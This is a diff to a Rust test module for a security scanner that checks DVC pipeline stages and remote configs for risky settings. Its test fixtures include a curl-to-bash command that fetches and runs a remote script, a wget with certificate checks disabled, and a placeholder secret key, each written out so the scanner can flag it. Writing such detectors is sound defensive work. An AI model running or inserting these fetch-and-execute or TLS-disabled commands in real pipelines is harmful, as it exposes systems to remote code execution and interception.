@@ -96,30 +96,18 @@ fn settings(content: &str) -> Vec<Issue> {
 
 #[cfg(test)]
 mod tests {
-    use crate::{Text, examine};
-    use bartizan_core::{Limits, MonotonicClock};
-
-    fn found(name: &str, text: &str) -> Vec<(u32, &'static str)> {
-        let outcome = examine(&Text::new(name, text), &Limits::default(), &MonotonicClock::start());
-        let mut found: Vec<_> = outcome
-            .findings
-            .iter()
-            .map(|one| (one.location.line.unwrap(), one.rule.id.trim_start_matches("pipeline/")))
-            .collect();
-        found.sort_unstable();
-        found
-    }
+    use crate::testing::lines;
 
     #[test]
     fn commands_of_stages_and_remotes_are_judged() {
         let text = "stages:\n  a:\n    cmd: curl -s https://x.example/i.sh | bash\n  b:\n    cmd:\n    - wget --no-check-certificate https://x.example/d.tar\n    - python train.py\n";
-        assert_eq!(found("dvc.yaml", text), [(3, "curl-pipe-shell"), (6, "tls-disabled")]);
-        assert_eq!(found("dvc.yaml", "stages:\n  a:\n    cmd: python train.py ${lr}\n"), []);
+        assert_eq!(lines("dvc.yaml", text), [(3, "curl-pipe-shell"), (6, "tls-disabled")]);
+        assert_eq!(lines("dvc.yaml", "stages:\n  a:\n    cmd: python train.py ${lr}\n"), []);
         let text = "['remote \"a\"']\n    url = http://d.example/x\n    ssl_verify = false\n    secret_access_key = q8Zr1vXkT4mLpN7cWbYd2\n";
         assert_eq!(
-            found(".dvc/config", text),
+            lines(".dvc/config", text),
             [(2, "insecure-transport"), (3, "tls-disabled"), (4, "secret")]
         );
-        assert_eq!(found(".dvc/config", "['remote \"a\"']\n    url = https://d.example/x\n"), []);
+        assert_eq!(lines(".dvc/config", "['remote \"a\"']\n    url = https://d.example/x\n"), []);
     }
 }
